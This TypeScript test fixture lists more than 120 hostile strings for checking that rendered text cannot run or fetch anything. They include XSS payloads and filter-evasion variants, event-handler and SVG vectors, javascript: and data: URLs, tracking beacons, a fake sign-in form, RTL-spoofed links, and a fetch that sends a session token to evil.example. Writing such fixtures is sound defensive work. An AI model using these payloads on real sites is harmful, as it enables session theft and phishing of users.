/** A site that hostile texts try to reach. Every request to it is a finding. */
const EVIL = 'https://evil.example';
const RUN = 'window.__ran=1';

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</p></li><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'-${RUN}-'`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<script type="module">import '${EVIL}/x.js'</script>`,
  `<!--><script>${RUN}</script-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `<script\u0000>${RUN}</script>`.replaceAll('\u0000', '\u0001'),
  '<script>alert(document.cookie)</script>',
  '<script>confirm(1)</script>',
  `<script>fetch("${EVIL}/"+localStorage.auth_session)</script>`,
];

const HANDLERS = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'iframe onload',
  'details open ontoggle',
  'video src=x onerror',
  'audio src=x onerror',
  'input autofocus onfocus',
  'select autofocus onfocus',
  'textarea autofocus onfocus',
  'marquee onstart',
  'style onload',
  'object onerror',
  'a onmouseover',
  'div onpointerenter',
  'form onformdata',
  'dialog open oncancel',
  'xss onanimationstart',
].map((tag) => `<${tag}="${RUN}">x</${tag.split(' ')[0]}>`);

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `javascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://evil.example/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==',
  `vbscript:${RUN}`,
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/1',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example',
  'https:evil.example',
  'https://user:pass@evil.example/',
  'ftp://evil.example/',
  'intent://evil.example#Intent;end',
  'ws://evil.example/',
  '/api/auth/logout',
  '/library/../api/user/account',
].flatMap((address) => [`[press](${address})`, `<${address}>`]);

const PICTURES = [
  `![](${EVIL}/p.png)`,
  `![a][1]\n\n[1]: ${EVIL}/p.png`,
  `[![a](${EVIL}/p.png)](${EVIL}/)`,
  `<img src="${EVIL}/p.png">`,
  `<img srcset="${EVIL}/p.png 2x">`,
  `<picture><source srcset="${EVIL}/p.png"></picture>`,
  `<link rel=stylesheet href="${EVIL}/x.css">`,
  `<link rel=prefetch href="${EVIL}/">`,
  `<style>@import "${EVIL}/x.css";body{background:url(${EVIL}/p.png)}</style>`,
  `<div style="background:url(${EVIL}/p.png)">x</div>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<base href="${EVIL}/">`,
  `<iframe src="${EVIL}/"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<object data="${EVIL}/x.swf"></object>`,
  `<embed src="${EVIL}/x.swf">`,
  `<form action="${EVIL}/" method=post><input name=a><button>Sign in again</button></form>`,
];

const VECTORS = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><image href="${EVIL}/p.png"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
];

const MALFORMED = [
  '**bold *and _all **of it',
  '***___***___***',
  '[a [b [c](https://one.example)](https://two.example)](https://three.example)',
  `[${'a'.repeat(400)}](`,
  '> > > > > > > > deep',
  '- \n- \n-',
  '```\nnever closed',
  '# # # # #',
  '|a|b|\n|-|-|\n|<b>c</b>|d|',
  '1. one\n99999. many',
  '\\<b\\>not bold\\</b\\>',
  '[x](https://evil.example "onmouseover=window.__ran=1")',
];

const BIDIRECTIONAL_AND_INVISIBLE = [
  '\u202Egnp.exe\u202C',
  '[\u202Emoc.knab\u202C](https://evil.example)',
  '[https://bank.example](https://evil.example)',
  '\u2066\u2067\u2068\u2069'.repeat(20),
  'שלום [press](javascript:window.__ran=1) שלום',
  'Z\u0351\u036B\u0343'.repeat(60),
  '\u200B\u200C\u200D\uFEFF',
  '💔'.repeat(200),
];

/** More than 120 texts that must not run or fetch anything wherever they are shown. */
export const HOSTILE: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...PICTURES,
  ...VECTORS,
  ...MALFORMED,
  ...BIDIRECTIONAL_AND_INVISIBLE,
];
